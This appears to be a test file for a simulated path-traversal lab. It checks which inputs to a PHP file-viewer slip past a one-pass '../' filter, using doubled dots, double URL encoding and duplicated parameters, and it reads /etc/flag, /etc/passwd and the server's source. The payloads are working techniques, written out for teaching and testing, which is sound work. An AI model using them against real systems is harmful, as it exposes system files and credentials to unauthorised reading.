import { describe, expect, it } from 'vitest';

import { expectFlag, expectNoFlag, runLab } from '../lab-test-helpers.js';

import { pathTraversalFilterBypassLab, phpUrlDecode, stripOnce, VIEW_PHP } from './path-traversal-filter-bypass.js';

function view(url: string) {
  return runLab(pathTraversalFilterBypassLab, 'view', { url });
}

describe('path-traversal-filter-bypass lab: bypasses of the filter read /etc/flag', () => {
  it.each([
    ['doubled dots, which the removal joins back', '/view.php?file=....//....//etc/flag'],
    ['more ../ than the depth: / stays /', '/view.php?file=....//....//....//....//etc/flag'],
    ['a ../ hidden around another', '/view.php?file=..././..././etc/flag'],
    ['double encoding, decoded by $_GET then by urldecode()', '/view.php?file=%252e%252e%252f%252e%252e%252fetc%252fflag'],
    ['only the slash double-encoded', '/view.php?file=..%252f..%252fetc%252fflag'],
    ['a dot segment and a doubled slash', '/view.php?file=....//....//etc/.//flag'],
    ['the parameter given twice: the last one wins', '/view.php?file=welcome.txt&file=....//....//etc/flag'],
    ['an encoded parameter name', '/view.php?%66ile=....//....//etc/flag'],
  ])('%s: %j', (_name, url) => {
    const result = view(url);
    expect(result.code).toBe('flag-read');
    expectFlag(result);
  });
});

describe('path-traversal-filter-bypass lab: near-misses fail', () => {
  it.each([
    ['plain ../, stripped by the filter', '/view.php?file=../../etc/flag'],
    ['single encoding: $_GET decodes it before the filter', '/view.php?file=%2e%2e%2f%2e%2e%2fetc%2fflag'],
    ['one level short', '/view.php?file=....//etc/flag'],
    ['an absolute path, appended to the folder', '/view.php?file=/etc/flag'],
    ['through a directory that does not exist', '/view.php?file=....//nothere/....//....//etc/flag'],
    ['backslashes, which Linux does not split on', '/view.php?file=..\\..\\etc\\flag'],
    ['a NUL byte', '/view.php?file=....//....//etc/flag%00.txt'],
    ['the wrong parameter', '/view.php?path=....//....//etc/flag'],
    ['a fragment is not sent', '/view.php?file=welcome.txt#....//....//etc/flag'],
  ])('%s: %j', (_name, url) => {
    const result = view(url);
    expect(result.ok).toBe(false);
    expectNoFlag(result);
  });

  it('shows where the read went in PHP’s warning', () => {
    expect(view('/view.php?file=../../etc/flag').output.text).toBe(
      'PHP Warning:  readfile(/srv/files/etc/flag): Failed to open stream: No such file or directory in /var/www/html/view.php on line 5',
    );
  });

  it('serves the folder’s files, other files of the box, and its own source', () => {
    expect(view('/view.php').output.text).toContain('Welcome to the shared folder.');
    expect(view('/view.php?file=team%2520notes.txt').output.text).toContain('Nothing secret here.');
    expect(view('/view.php?file=....//....//etc/passwd').output.text).toContain('www-data');
    expect(view('/view.php?file=....//....//var/www/html/view.php').output.text).toBe(VIEW_PHP);
    expectNoFlag(view('/view.php?file=....//....//etc/passwd'));
  });

  it('reads as PHP does: urldecode and a one-pass str_replace', () => {
    expect(phpUrlDecode('a+b%2fc%zz%2F')).toBe('a b/c%zz/');
    expect(stripOnce('....//')).toBe('../');
    expect(stripOnce('../../')).toBe('');
  });

  it('answers unknown-action to anything else', () => {
    expect(runLab(pathTraversalFilterBypassLab, 'read', { url: '/etc/flag' }).code).toBe('unknown-action');
  });
});
